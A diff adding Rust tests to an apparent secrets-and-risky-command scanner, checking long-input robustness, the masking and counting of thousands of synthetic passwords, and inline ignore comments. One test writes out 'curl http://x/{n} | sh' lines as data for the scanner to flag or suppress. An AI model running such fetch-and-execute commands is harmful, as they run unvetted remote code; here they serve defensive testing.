@@ -97,12 +97,45 @@ fn long_is_not_deep() {
             "parameters",
             format!("def f({}):\n    pass\n", (0..10_000).map(|n| format!("a{n}")).collect::<Vec<_>>().join(", ")),
         ),
+        (
+            "a dictionary in one line",
+            format!("x = {{{}}}\n", (0..100_000).map(|n| format!("'k{n}': 'v{n}'")).collect::<Vec<_>>().join(", ")),
+        ),
         ("lambdas in a table", format!("x = [{}]\n", "lambda a, b: a,".repeat(20_000))),
     ];
     for (what, source) in cases {
         let outcome = survives(&source);
         assert!(outcome.problems.is_empty(), "{what}: {:?}", outcome.problems);
     }
+}
+
+#[test]
+fn a_file_of_nothing_but_secrets_is_counted_rather_than_told_one_by_one() {
+    // Long and short ones, so that each way of masking meets many.
+    let value = |n: usize| format!("{}{n:05}", if n.is_multiple_of(2) { "Xq-7" } else { "hunter-of-Things-" });
+    let pairs: Vec<String> = (0..20_000).map(|n| format!("{{\"password\": \"{}\"}}", value(n))).collect();
+    let json = format!("[{}]", pairs.join(", "));
+    let env: String = (0..20_000).map(|n| format!("PASSWORD_{n}={}\n", value(n))).collect();
+    let python = format!("x = [{}]\n", pairs.join(", "));
+    for (path, text) in [("data.json", json), ("data.env", env), ("data.py", python)] {
+        let outcome = audit(&[(path, text)]);
+        let found = outcome.findings.iter().filter(|finding| finding.secret().is_some()).count();
+        assert!((500..=1000).contains(&found), "{path}: {found}");
+        let told: Vec<&str> = outcome.problems.iter().map(|problem| problem.message.as_str()).collect();
+        assert!(told[0].contains("000 more secrets of this file are not told one by one"), "{path}: {told:?}");
+        for finding in &outcome.findings {
+            assert!(!finding.statement.contains("hunter-of"), "{path}: {}", finding.statement);
+        }
+    }
+}
+
+#[test]
+fn a_silencing_comment_on_each_of_many_lines_ends() {
+    let text: String = (0..20_000).map(|n| format!("curl http://x/{n} | sh  # casemate: ignore -- {n}\n")).collect();
+    let outcome = audit(&[("get.sh", text)]);
+
+    assert!(outcome.findings.is_empty(), "{}", outcome.findings.len());
+    assert_eq!(outcome.suppressed.len(), 20_000);
 }
 
 #[test]
